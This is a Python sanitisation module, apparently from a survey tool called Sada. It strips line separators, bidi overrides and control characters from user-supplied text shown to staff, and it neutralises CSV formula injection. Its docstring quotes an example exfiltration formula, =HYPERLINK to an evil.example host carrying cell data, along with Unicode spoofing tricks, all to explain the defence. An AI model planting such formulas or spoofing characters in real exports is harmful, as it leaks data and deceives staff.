"""What respondents and CRMs typed, made safe to show staff: in a line of chat or terminal
(`staff_line`) and in a spreadsheet cell (`csv_cell`, `write_csv`).

A respondent controls their answers and their Telegram name; a CRM export controls names,
accounts and roles. Shown to staff verbatim, such a value can pass for Sada's own words:

- a U+2028 (line separator) in a comment starts what looks like a new line of the alert,
  such as a fake "Resolve: /resolve 1 …";
- a U+202E (right-to-left override) in a name reverses the rest of the "Contact:" line;
- an escape character drives the staff member's terminal;
- in a spreadsheet, a cell starting with "=" is a live formula
  (`=HYPERLINK("http://evil.example/?"&A1,"click")` sends the sheet's data away).

`staff_line` keeps one value on one line and in its own direction: every line break
becomes `joiner`, bidi embeddings, overrides and isolates (U+202A–U+202E, U+2066–U+2069)
and other control characters are dropped. The marks people legitimately type in Arabic and
Persian stay: RLM, LRM and ALM (a mark cannot reorder strong letters, only place
punctuation), ZWNJ (می‌خواهم) and ZWJ.

`csv_cell` neutralises text that a spreadsheet would run as a formula. See docs/metrics.md
("CSV files and spreadsheets").
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import Any, TextIO

# Everything str.splitlines() breaks at: \n \v \f \r, the file/group/record separators,
# NEL, and the Unicode line and paragraph separators.
_LINE_BREAKS = re.compile("(?:\r\n|[\n\v\f\r\x1c\x1d\x1e\x85\u2028\u2029])+")
# Bidi embeddings and overrides (LRE, RLE, PDF, LRO, RLO) and isolates (LRI, RLI, FSI, PDI):
# a value wrapping its neighbours in them reorders text that is not its own.
BIDI_FORMATTING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
# C0 and C1 controls and DEL (the line breaks among them are handled above), plus the
# bidi formatting characters; a tab is a space.
_DROPPED = re.compile("[\x00-\x08\x0e-\x1b\x1f\x7f-\x84\x86-\x9f" + BIDI_FORMATTING + "]")


def staff_line(text: str, *, joiner: str = " / ") -> str:
    """``text`` as one line for staff: line breaks become ``joiner`` (a run of them, blank
    lines included, becomes one), tabs a space; bidi embeddings, overrides and isolates and
    control characters are dropped. Idempotent; text without them is returned unchanged."""
    text = text.replace("\t", " ")
    text = _DROPPED.sub("", text)
    parts = _LINE_BREAKS.split(text)
    if len(parts) == 1:
        return text
    # Leading and trailing breaks would only leave a dangling " / ".
    return joiner.join(part.strip() for part in parts if part.strip())


# --- spreadsheets ---------------------------------------------------------------------------

# A text cell starting with one of these is read as a formula by Excel, LibreOffice and
# Google Sheets (tab and carriage return: some of them strip those first).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A value as Sada writes it into a CSV cell.

    Text starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe, so
    spreadsheets show it as text instead of running it: "'=HYPERLINK(…)", "'-5 stars".
    Numbers are written as numbers, negative ones included (-12.5 stays a number a
    spreadsheet can add up): only text can carry a formula. None is an empty cell, floats
    keep 4 decimals, dates and times are ISO 8601.
    """
    if value is None:
        return ""
    if isinstance(value, float):
        return round(value, 4)
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """The one CSV writer of Sada: a header line, then every row through `csv_cell`."""
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([csv_cell(name) for name in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
